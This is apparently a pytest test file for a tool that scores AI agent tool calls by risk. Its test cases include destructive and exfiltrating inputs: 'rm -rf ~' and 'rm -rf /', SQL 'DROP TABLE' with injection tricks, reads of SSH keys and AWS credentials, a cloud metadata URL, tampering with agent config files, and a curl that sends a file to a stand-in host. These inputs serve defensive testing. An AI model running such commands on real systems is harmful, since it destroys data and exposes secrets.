"""Tools of agents: by their names, their arguments, and what they reach."""

from typing import Any

import pytest

from powerautomation.approvals.risk import Action, Assessment, assess, load_rules


def judged(tool: str, arguments: dict[str, Any]) -> Assessment:
    return assess(Action(tool, arguments, cwd="/home/dev/shop", home="/home/dev"), load_rules())


@pytest.mark.parametrize(
    ("tool", "arguments", "level"),
    [
        ("Read", {"file_path": "/home/dev/shop/src/a.py"}, "SAFE"),
        ("Read", {"file_path": "/home/dev/.ssh/id_rsa"}, "HIGH"),
        ("Grep", {"pattern": "x", "path": "src"}, "SAFE"),
        ("Write", {"file_path": "src/a.py", "content": "x"}, "LOW"),
        ("Edit", {"file_path": "/etc/hosts", "old_string": "a", "new_string": "b"}, "CRITICAL"),
        ("Write", {"file_path": "../shop/.claude/settings.json", "content": "{}"}, "CRITICAL"),
        ("Write", {"file_path": "/home/dev/.codex/config.toml", "content": ""}, "CRITICAL"),
        ("write_file", {"file_path": "/home/dev/other/a", "content": ""}, "HIGH"),
        ("NotebookEdit", {"notebook_path": "a.ipynb"}, "LOW"),
        ("apply_patch", {"input": "*** Begin Patch\n*** Update File: src/a.py\n*** End Patch"}, "LOW"),
        ("apply_patch", {"input": "*** Begin Patch\n*** Delete File: src/a.py\n*** End Patch"}, "MEDIUM"),
        ("apply_patch", {"input": "*** Begin Patch\n*** Add File: .mcp.json\n*** End Patch"}, "CRITICAL"),
        ("WebFetch", {"url": "https://example.com/a", "prompt": "x"}, "LOW"),
        ("WebFetch", {"url": "http://169.254.169.254/latest", "prompt": "x"}, "CRITICAL"),
        ("WebSearch", {"query": "x"}, "LOW"),
        ("TodoWrite", {"todos": []}, "SAFE"),
        ("shell", {"command": ["ls", "-la"]}, "SAFE"),
        ("shell", {"command": ["bash", "-lc", "rm -rf ~"]}, "CRITICAL"),
        ("shell", {"command": ["ls"], "workdir": "/etc"}, "LOW"),
        ("local_shell", {"action": {"type": "exec", "command": ["git", "status"]}}, "SAFE"),
        ("run_shell_command", {"command": "rm -rf *", "directory": "/home/dev"}, "CRITICAL"),
        ("mcp__github__get_issue", {"number": 3}, "LOW"),
        ("mcp__github__create_issue", {"title": "x"}, "MEDIUM"),
        ("mcp__github__merge_pull_request", {"number": 3}, "HIGH"),
        ("mcp__github__delete_repository", {"name": "x"}, "HIGH"),
        ("mcp__stripe__create_payment", {"amount": 3}, "CRITICAL"),
        ("mcp__box__frobnicate", {}, "MEDIUM"),
        ("mcp__db__query", {"sql": "SELECT 1"}, "LOW"),
        ("mcp__db__query", {"sql": "DROP TABLE users"}, "HIGH"),
        ("mcp__box__run", {"command": "rm -rf /"}, "CRITICAL"),
        ("mcp__files__read_file", {"path": "~/.aws/credentials"}, "HIGH"),
        ("mcp__vault__get_secret", {"name": "x"}, "HIGH"),
        ("SomethingNew", {}, "MEDIUM"),
        ("Edit", {"file_path": "~/.bashrc"}, "HIGH"),
        ("Write", {"file_path": " .claude/settings.json ", "content": "{}"}, "CRITICAL"),
        ("Grep", {"pattern": ".", "path": ".", "glob": ".env", "output_mode": "content"}, "HIGH"),
        ("Grep", {"pattern": ".", "path": ".", "glob": "**/*.ts"}, "SAFE"),
        ("apply_patch", {"input": "*** Add File: a\n+x\n  *** Update File: .claude/settings.json\n"}, "CRITICAL"),
        ("exec_command", {"cmd": "ls", "shell": "/tmp/sh"}, "MEDIUM"),
        ("exec_command", {"cmd": "ls", "shell": "/bin/bash"}, "SAFE"),
        ("mcp__db__query", {"query": "/**/ DROP TABLE users"}, "HIGH"),
        ("mcp__db__query", {"query": " ;DROP TABLE users"}, "HIGH"),
        ("mcp__files__get", {"p": "/home/dev/.ssh/id_rsa"}, "HIGH"),
    ],
)
def test_a_tool_is_judged_by_what_it_does_and_reaches(tool: str, arguments: dict[str, Any], level: str) -> None:
    found = judged(tool, arguments)
    assert (found.level.name, found.denied) == (level, False), found.reasons


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("Bash", {}),
        ("Bash", {"command": 3}),
        ("Bash", {"command": {"a": "ls"}}),
        ("shell", {"command": ["ls", 3]}),
        ("exec_command", {"command": "ls", "cmd": "rm -rf ~"}),
        ("Write", {}),
        ("apply_patch", {"input": "not a patch"}),
        ("mcp__a__b", {"a": [[[[[[[[[[[[[[["x"]]]]]]]]]]]]]]]}),
    ],
)
def test_arguments_that_cannot_be_read_are_denied(tool: str, arguments: dict[str, Any]) -> None:
    assert judged(tool, arguments).denied


def test_the_home_folder_is_guessed_when_nobody_tells_it() -> None:
    for cwd in ("/home/dev/shop", "/srv/app", ""):
        found = assess(Action("Bash", {"command": "rm -rf ~"}, cwd=cwd), load_rules())
        assert found.level.name == "CRITICAL", cwd


def test_what_is_touched_is_told() -> None:
    found = judged("Bash", {"command": "cat src/a.py > /tmp/x; curl -d @b.txt https://x.example/"})
    told = {(touch.kind, touch.name, touch.how) for touch in found.touches}
    assert ("path", "/home/dev/shop/src/a.py", "read") in told
    assert ("path", "/tmp/x", "write") in told
    assert ("host", "x.example", "send") in told
    assert found.commands[0] == (0, ("cat", "src/a.py"))
